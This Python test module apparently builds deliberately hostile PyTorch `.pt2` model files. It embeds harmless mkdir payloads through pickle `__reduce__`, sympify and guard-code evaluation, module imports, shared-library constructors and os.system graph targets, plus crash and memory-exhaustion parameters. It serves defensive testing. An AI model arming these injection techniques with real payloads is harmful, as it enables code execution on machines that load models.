"""Builds hostile `.pt2` files. Each payload makes the folder `marker` if it runs; none does anything else."""

from __future__ import annotations

import functools
import io
import json
import os
import pickle
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch import nn

Entries = dict[str, bytes]
MODEL, WEIGHTS = "models/model.json", "data/weights/model_weights_config.json"
CONSTANTS, SAMPLES = "data/constants/model_constants_config.json", "data/sample_inputs/model.pt"


class _Payload:
    """Unpickling it makes the marker folder."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (self.marker,)


class Target(nn.Module):
    """What the attacks are hidden in: a convolution and a linear layer."""

    def __init__(self) -> None:
        super().__init__()
        self.conv = nn.Conv2d(1, 2, 3, padding=1)
        self.norm = nn.BatchNorm2d(2)
        self.head = nn.Linear(2 * 16, 3)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.head(torch.relu(self.norm(self.conv(x))).flatten(1))


def export(model: nn.Module) -> Entries:
    """Return the entries of an exported model, without the root folder."""
    free = torch.export.Dim.DYNAMIC
    program = torch.export.export(model, (torch.ones(2, 1, 4, 4),), dynamic_shapes=({0: free},))
    buffer = io.BytesIO()
    torch.export.save(program, buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name.partition("/")[2]: archive.read(name) for name in archive.namelist()}


@functools.cache
def _benign() -> tuple[tuple[str, bytes], ...]:
    torch.manual_seed(0)
    return tuple(export(Target().eval()).items())


def benign() -> Entries:
    """Return the entries of the harmless model that the attacks start from."""
    return dict(_benign())


def write(path: Path, entries: Entries, root: str = "model", compression: int = zipfile.ZIP_STORED) -> Path:
    """Write entries as a `.pt2` file."""
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(f"{root}/{name}", data)
    return path


def edited(entries: Entries, name: str, change: Callable[[Any], None]) -> Entries:
    """Return the entries with one JSON entry changed in place by `change`."""
    content = json.loads(entries[name])
    change(content)
    return entries | {name: json.dumps(content).encode()}


def node(content: Any, operator: str) -> Any:
    """Return the first node of the graph that calls the operator."""
    nodes = content["graph_module"]["graph"]["nodes"]
    return next(item for item in nodes if item["target"].startswith(f"torch.ops.aten.{operator}."))


def argument(content: Any, operator: str, name: str, value: Any) -> None:
    """Set an argument of the first node that calls the operator."""
    inputs = node(content, operator)["inputs"]
    inputs[:] = [item for item in inputs if item["name"] != name] + [{"name": name, "arg": value, "kind": 1}]


def _pickled(marker: Path) -> bytes:
    buffer = io.BytesIO()
    torch.save(_Payload(marker), buffer)
    return buffer.getvalue()


def _expression(marker: Path) -> str:
    return f"__import__('os').mkdir({str(marker)!r})"


def sample_inputs(path: Path, marker: Path) -> None:
    """A pickle in place of the example inputs."""
    write(path, benign() | {SAMPLES: _pickled(marker)})


def legacy_weights(path: Path, marker: Path) -> None:
    """Weights as one pickle, as older versions wrote them."""
    write(path, benign() | {"data/weights/model.pt": _pickled(marker)})


def use_pickle(path: Path, marker: Path) -> None:
    """One weight stored as a pickle."""

    def change(content: Any) -> None:
        content["config"]["head.bias"] |= {"use_pickle": True, "path_name": "weight_99"}

    write(path, edited(benign(), WEIGHTS, change) | {"data/weights/weight_99": _pickled(marker)})


def opaque_obj(path: Path, marker: Path) -> None:
    """A constant that is a pickled Python object."""

    def change(content: Any) -> None:
        content["config"]["thing"] = {
            "path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None,
        }  # fmt: skip

    data = pickle.dumps(_Payload(marker))
    write(path, edited(benign(), CONSTANTS, change) | {"data/constants/opaque_obj_0": data})


def sympify(path: Path, marker: Path) -> None:
    """A symbolic size whose text is evaluated as Python."""
    code = f"sympify.__globals__['__builtins__']['__import__']('os').mkdir({str(marker)!r})"

    def change(content: Any) -> None:
        values = content["graph_module"]["graph"]["tensor_values"]
        values["x"]["sizes"][0] = {"as_expr": {"expr_str": code, "hint": {"as_int": 2}}}

    write(path, edited(benign(), MODEL, change))


def guards_code(path: Path, marker: Path) -> None:
    """A guard, which torch writes into a function and runs at the first call."""

    def change(content: Any) -> None:
        content["guards_code"] = [f"{_expression(marker)} is None"]

    write(path, edited(benign(), MODEL, change))


def treespec_import(path: Path, marker: Path) -> None:
    """A defaultdict in the input tree, whose factory's module (`pt2_marker_module`) is imported."""
    factory = {"default_factory_module": "pt2_marker_module", "default_factory_name": "made", "dict_context": []}
    tree = {"type": "collections.defaultdict", "context": factory, "children_spec": []}

    def change(content: Any) -> None:
        signature = content["graph_module"]["module_call_graph"][0]["signature"]
        version, spec = json.loads(signature["in_spec"])
        spec["children_spec"].append(tree)
        signature["in_spec"] = json.dumps([version, spec])

    module = path.parent / "pt2_marker_module.py"
    module.write_text(f"import os\nos.mkdir({str(marker)!r})\nmade = dict\n")
    write(path, edited(benign(), MODEL, change))


def aoti_so(path: Path, marker: Path) -> None:
    """A shared library among compiled code, whose constructor runs when it is opened."""
    library = b"\x7fELF not a library"
    if compiler := shutil.which("gcc"):
        source, built = path.with_suffix(".c"), path.with_suffix(".so")
        source.write_text(
            "#include <sys/stat.h>\n__attribute__((constructor)) static void run(void) "
            f'{{ mkdir("{marker}", 0755); }}\n'
        )
        subprocess.run([compiler, "-shared", "-fPIC", "-o", built, source], check=True, capture_output=True)
        library = built.read_bytes()
    compiled = {
        "data/aotinductor/model/model.wrapper.so": library,
        "data/aotinductor/model/model.wrapper_metadata.json": json.dumps({"AOTI_DEVICE_KEY": "cpu"}).encode(),
    }
    write(path, benign() | compiled)


def oldformat(path: Path, marker: Path) -> None:
    """The layout of torch 2.7 and older, all pickles."""
    entries = {
        "version": b"8.20",
        "serialized_exported_program.json": benign()[MODEL],
        "serialized_state_dict.pt": _pickled(marker),
        "serialized_constants.pt": _pickled(marker),
        "serialized_example_inputs.pt": _pickled(marker),
    }
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)


def target_ossystem(path: Path, marker: Path) -> None:
    """A node whose target is a chain of attributes that ends in os.system."""

    def change(content: Any) -> None:
        target = node(content, "relu")
        target["target"] = "torch.os.system"
        target["inputs"] = [{"name": "", "arg": {"as_string": f"mkdir {marker}"}, "kind": 1}]

    write(path, edited(benign(), MODEL, change))


def train_mode(path: Path, marker: Path) -> None:
    """Exported in training mode: batch statistics instead of running ones."""
    write(path, export(Target().train()))


def conv_stride(path: Path, marker: Path) -> None:
    """A stride of 2**31 - 1, which ends the process with a division error."""
    write(
        path,
        edited(benign(), MODEL, lambda content: argument(content, "conv2d", "stride", {"as_ints": [2**31 - 1] * 2})),
    )


def conv_padding(path: Path, marker: Path) -> None:
    """A padding of a million, which asks for terabytes."""
    write(
        path, edited(benign(), MODEL, lambda content: argument(content, "conv2d", "padding", {"as_ints": [10**6] * 2}))
    )


# Name: the builder, and whether torch.export.load (and one call of the model) runs the payload.
ATTACKS: dict[str, tuple[Callable[[Path, Path], None], bool]] = {
    "sample_inputs": (sample_inputs, True),
    "legacy_weights": (legacy_weights, True),
    "use_pickle": (use_pickle, True),
    "opaque_obj": (opaque_obj, True),
    "sympify": (sympify, True),
    "guards_code": (guards_code, True),
    "treespec_import": (treespec_import, True),
    "aoti_so": (aoti_so, True),
    "oldformat": (oldformat, True),
    "target_ossystem": (target_ossystem, False),
    "train_mode": (train_mode, False),
    "conv_stride_2_31": (conv_stride, False),
    "conv_padding_1e6": (conv_padding, False),
}
